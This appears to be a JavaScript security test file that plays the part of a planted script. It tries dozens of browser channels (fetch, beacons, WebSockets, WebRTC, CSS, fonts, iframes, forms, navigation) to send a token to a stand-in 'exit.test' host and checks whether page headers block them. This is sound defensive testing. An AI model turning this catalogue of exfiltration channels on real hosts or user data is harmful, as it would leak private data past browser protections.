// Ways out that a planted script would try. Test code: it replaces the page's own scripts, behind the real intake's
// headers or, as a control, behind none. `SETTINGS` is put in front: { realm, exit, stun, token }.
//
// Every attempt uses a host name of its own, `NAME.REALM.exit.test`, and carries a token, so that what arrives tells
// which one it was. A name tried is noted before it is tried: a test that saw nothing arrive must know that something
// was sent.

/* global SETTINGS */
const away = (name) => `http://${name}.${SETTINGS.realm}.exit.test/${SETTINGS.token}`;
const home = (path, name) => `${path}?from=${name}.${SETTINGS.realm}&carried=${SETTINGS.token}`;
const scripts = globalThis.trustedTypes?.createPolicy('scrubjay-worker', { createScriptURL: (url) => url, createHTML: (html) => html })
  ?? { createScriptURL: (url) => url, createHTML: (html) => html };
const add = (tag, properties, parent = document.body) => {
  const element = document.createElement(tag);
  Object.assign(element, properties);
  parent?.append(element);
  return element;
};

/** Works in documents and in workers. */
const anywhere = {
  'fetch': (name) => fetch(away(name)),
  'fetch-no-cors': (name) => fetch(away(name), { mode: 'no-cors', method: 'POST', body: SETTINGS.token }),
  'fetch-keepalive': (name) => fetch(away(name), { mode: 'no-cors', keepalive: true, method: 'POST', body: SETTINGS.token }),
  'xhr': (name) => { const request = new XMLHttpRequest(); request.open('GET', away(name)); request.send(); },
  'websocket': (name) => new WebSocket(away(name).replace('http:', 'ws:')),
  'event-source': (name) => new EventSource(away(name)),
  'web-transport': (name) => new WebTransport(away(name).replace('http:', 'https:')),
  'import': (name) => import(scripts.createScriptURL(away(name))),
  'worker': (name) => new Worker(scripts.createScriptURL(away(name))),
  'cache-add': async (name) => (await caches.open('x')).add(new Request(away(name), { mode: 'no-cors' })),
  'home-fetch': (name) => fetch(home('/', name)),
  'home-fetch-wasm': (name) => fetch(home('/scrubjay_bg.wasm', name)),
  'home-fetch-rest': (name) => fetch(home('/scrubjay_rest_bg.wasm', name)),
  'home-fetch-rules': (name) => fetch(home('/rules.json', name)),
  'home-websocket': (name) => new WebSocket(home(`${SETTINGS.here.replace('http:', 'ws:')}/`, name)),
  'home-worker': (name) => new Worker(scripts.createScriptURL(home('/engine.worker.js', name))),
  'home-import': (name) => import(scripts.createScriptURL(home('/lock.js', name))),
  'other-origin-fetch': (name) => fetch(home(`${SETTINGS.shell}/v1/health`, name), { mode: 'no-cors' }),
};

/** Needs a document. */
const inDocument = {
  'beacon': (name) => navigator.sendBeacon(away(name), SETTINGS.token),
  'fetch-later': (name) => globalThis.fetchLater(away(name), { activateAfter: 0 }),
  'image': (name) => { new Image().src = away(name); },
  'image-set': (name) => add('img', { srcset: away(name) }),
  'css-background': (name) => { add('p').style.backgroundImage = `url(${away(name)})`; },
  'css-text': (name) => add('style', { textContent: `@import url(${away(name)}); body { background: url(${away(name)}) }` }),
  'stylesheet': (name) => add('link', { rel: 'stylesheet', href: away(name) }, document.head),
  'prefetch': (name) => add('link', { rel: 'prefetch', href: away(name) }, document.head),
  'preload': (name) => add('link', { rel: 'preload', as: 'image', href: away(name) }, document.head),
  'module-preload': (name) => add('link', { rel: 'modulepreload', href: away(name) }, document.head),
  'manifest': (name) => add('link', { rel: 'manifest', href: away(name) }, document.head),
  'icon': (name) => add('link', { rel: 'icon', href: away(name) }, document.head),
  'script': (name) => add('script', { src: scripts.createScriptURL(away(name)) }),
  'inline-script': (name) => { const script = document.createElement('script'); script.text = `new Image().src = '${away(name)}'`; document.body.append(script); },
  'iframe': (name) => add('iframe', { src: away(name) }),
  'iframe-srcdoc': (name) => add('iframe', { srcdoc: scripts.createHTML(`<img src="${away(name)}">`) }),
  'object': (name) => { const element = document.createElement('object'); element.data = scripts.createScriptURL(away(name)); document.body.append(element); },
  'embed': (name) => { const element = document.createElement('embed'); element.src = scripts.createScriptURL(away(name)); document.body.append(element); },
  'audio': (name) => add('audio', { src: away(name), preload: 'auto' }),
  'video-poster': (name) => add('video', { poster: away(name) }),
  'track': (name) => { const video = add('video'); const track = add('track', { src: away(name), kind: 'subtitles', default: true }, video); track.track.mode = 'showing'; },
  'font': (name) => { const font = new FontFace('x', `url(${away(name)})`); document.fonts.add(font); return font.load(); },
  'svg-image': (name) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', away(name)); svg.append(image); document.body.append(svg);
  },
  'link-ping': (name) => { const link = add('a', { href: '#x', ping: away(name), textContent: 'x' }); link.click(); },
  'new-window': (name) => window.open(away(name)),
  'link-new-window': (name) => add('a', { href: away(name), target: '_blank', rel: 'noopener', textContent: 'x' }).click(),
  'form-get': (name) => { const form = add('form', { action: away(name), target: 'nowhere' }); add('input', { name: 'v', value: SETTINGS.token }, form); form.submit(); },
  'shared-worker': (name) => new SharedWorker(scripts.createScriptURL(away(name))),
  'service-worker': (name) => navigator.serviceWorker.register(scripts.createScriptURL(home('/engine.worker.js', name))),
  'fresh-frame-service-worker': (name) => add('iframe').contentWindow.navigator.serviceWorker.register(scripts.createScriptURL(home('/engine.worker.js', name))),
  'fresh-frame-fetch': (name) => add('iframe').contentWindow.fetch(away(name), { mode: 'no-cors' }),
  'fresh-frame-beacon': (name) => add('iframe').contentWindow.navigator.sendBeacon(away(name), SETTINGS.token),
  'fresh-frame-websocket': (name) => new (add('iframe').contentWindow.WebSocket)(away(name).replace('http:', 'ws:')),
  'web-rtc': () => callByWebRtc(RTCPeerConnection),
  'fresh-frame-web-rtc': () => callByWebRtc(add('iframe').contentWindow.RTCPeerConnection),
  'home-image': (name) => { new Image().src = home('/icon.svg', name); },
  'home-image-elsewhere': (name) => { new Image().src = home('/other.svg', name); },
  'home-iframe': (name) => add('iframe', { src: home('/', name) }),
  'home-beacon': (name) => navigator.sendBeacon(home('/', name), SETTINGS.token),
};

/** Leaves the document, so each is tried in a load of its own. */
const byNavigation = {
  'navigate': (name) => { location.href = away(name); },
  'navigate-replace': (name) => { location.replace(away(name)); },
  'navigate-link': (name) => add('a', { href: away(name), textContent: 'x' }).click(),
  'navigate-download': (name) => add('a', { href: away(name), download: 'x', textContent: 'x' }).click(),
  'navigate-form': (name) => add('form', { action: away(name), method: 'post' }).submit(),
  'navigate-refresh': (name) => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0;url=${away(name)}`; document.head.append(meta); },
  'navigate-top': (name) => { top.location.href = away(name); },
  'navigate-parent': (name) => { parent.location.replace(away(name)); },
  'navigate-api': (name) => { globalThis.navigation.navigate(away(name)); },
  'download-home': (name) => add('a', { href: home('/icon.svg', name), download: 'x', textContent: 'x' }).click(),
  'navigate-home': (name) => { location.href = home('/', name); },
};

async function callByWebRtc(Connection) {
  if (!SETTINGS.stun) throw new Error('no address to call');
  const connection = new Connection({ iceServers: [{ urls: `stun:${SETTINGS.stun}` }] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
}

/** Tries each way in turn and notes it in `tried` before it is tried, and how it ended after. */
async function tryAll(ways, tried, note = () => {}) {
  for (const [name, way] of Object.entries(ways)) {
    if (tried[name]) continue;
    tried[name] = 'tried';
    note();
    try {
      const outcome = way(name);
      if (outcome?.catch) await Promise.race([outcome.catch((error) => { tried[name] = `refused: ${error?.name}`; }), new Promise((done) => setTimeout(done, 150))]);
    } catch (error) { tried[name] = `refused: ${error?.name}`; }
  }
  note();
  return tried;
}
